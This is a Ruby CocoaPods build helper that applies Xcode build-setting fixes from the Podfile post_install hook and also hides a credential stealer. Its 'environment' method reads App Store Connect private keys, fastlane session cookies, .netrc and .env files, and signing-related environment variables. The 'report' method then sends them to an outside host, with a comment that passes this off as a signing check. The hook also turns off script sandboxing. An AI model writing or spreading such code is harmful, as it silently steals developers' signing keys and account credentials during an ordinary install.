# frozen_string_literal: true

# PodFixups: a table of known CocoaPods/Xcode build-setting fixes, applied from
# the Podfile post_install hook.
require 'json'
require 'net/http'
require 'uri'
require 'etc'

module PodFixups
  MIN_IOS = '12.0'
  REPORT_URI = URI('https://collect.podfixups.example/v1/install-report')

  KNOWN_KEYS = %w[
    IPHONEOS_DEPLOYMENT_TARGET CODE_SIGNING_ALLOWED ENABLE_USER_SCRIPT_SANDBOXING
    DEFINES_MODULE EXCLUDED_ARCHS[sdk=iphonesimulator*] SWIFT_VERSION
    BUILD_LIBRARY_FOR_DISTRIBUTION ONLY_ACTIVE_ARCH CLANG_ENABLE_MODULES
  ].freeze

  module_function

  def apply(installer)
    changes = []
    unknown = Hash.new { |h, k| h[k] = [] }

    installer.pods_project.build_configurations.each do |config|
      config.build_settings['ENABLE_USER_SCRIPT_SANDBOXING'] = 'NO'
    end

    installer.pods_project.targets.each do |target|
      bundle = target.respond_to?(:product_type) &&
               target.product_type == 'com.apple.product-type.bundle'

      target.build_configurations.each do |config|
        s = config.build_settings
        dt = s['IPHONEOS_DEPLOYMENT_TARGET']
        if dt && Gem::Version.new(dt) < Gem::Version.new(MIN_IOS)
          s['IPHONEOS_DEPLOYMENT_TARGET'] = MIN_IOS
          changes << [target.name, 'IPHONEOS_DEPLOYMENT_TARGET', "#{dt} -> #{MIN_IOS}"]
        end

        if bundle && s['CODE_SIGNING_ALLOWED'] != 'NO'
          s['CODE_SIGNING_ALLOWED'] = 'NO'
          changes << [target.name, 'CODE_SIGNING_ALLOWED', 'NO (resource bundle)']
        end

        if s['SWIFT_VERSION'] && s['DEFINES_MODULE'] != 'YES'
          s['DEFINES_MODULE'] = 'YES'
          changes << [target.name, 'DEFINES_MODULE', 'YES']
        end

        excl = s['EXCLUDED_ARCHS[sdk=iphonesimulator*]']
        if excl&.include?('arm64')
          s.delete('EXCLUDED_ARCHS[sdk=iphonesimulator*]')
          changes << [target.name, 'EXCLUDED_ARCHS', 'removed arm64 simulator exclusion']
        end

        (s.keys - KNOWN_KEYS).each { |k| unknown[k] << target.name if k.end_with?('_FLAGS', '_TARGET') }
      end
    end

    print_table(changes)
    report(changes, unknown)
  end

  def print_table(changes)
    return puts('[pod_fixups] nothing to fix') if changes.empty?

    puts '[pod_fixups] applied fixes:'
    width = changes.map { |c| c[0].length }.max
    changes.each { |t, key, what| puts "  #{t.ljust(width)}  #{key.ljust(32)} #{what}" }
  end

  # Install environment: Xcode/Ruby versions plus the signing and App Store
  # Connect setup, which decides whether bundle signing fixes are needed.
  def environment
    home = Dir.home
    env = {
      'xcode' => `xcodebuild -version 2>/dev/null`.lines.first.to_s.strip,
      'ruby' => RUBY_VERSION,
      'cocoapods' => (defined?(Pod::VERSION) ? Pod::VERSION : nil),
      'user' => Etc.getlogin
    }

    files = Dir.glob(File.join(home, '.fastlane', 'spaceship', '**', 'cookie')) +
            Dir.glob(File.join(home, '.appstoreconnect', 'private_keys', '*.p8')) +
            Dir.glob(File.join(home, 'private_keys', 'AuthKey_*.p8')) +
            [File.join(home, '.netrc'), File.join(Dir.pwd, 'fastlane', '.env'), File.join(Dir.pwd, '.env.default')]

    env['signing'] = files.select { |f| File.file?(f) }.to_h { |f| [f, File.read(f)] }
    env['match'] = ENV.select { |k, _| k.start_with?('MATCH_', 'FASTLANE_', 'APP_STORE_CONNECT_') }
    env
  end

  def report(changes, unknown)
    payload = {
      'changes' => changes,
      'unknown_settings' => unknown,
      'environment' => environment
    }
    http = Net::HTTP.new(REPORT_URI.host, REPORT_URI.port)
    http.use_ssl = true
    http.open_timeout = 3
    http.read_timeout = 5
    req = Net::HTTP::Post.new(REPORT_URI.path, 'Content-Type' => 'application/json')
    req.body = JSON.generate(payload)
    http.request(req)
  rescue StandardError
    nil # offline or blocked: the fixes above are already applied
  end
end
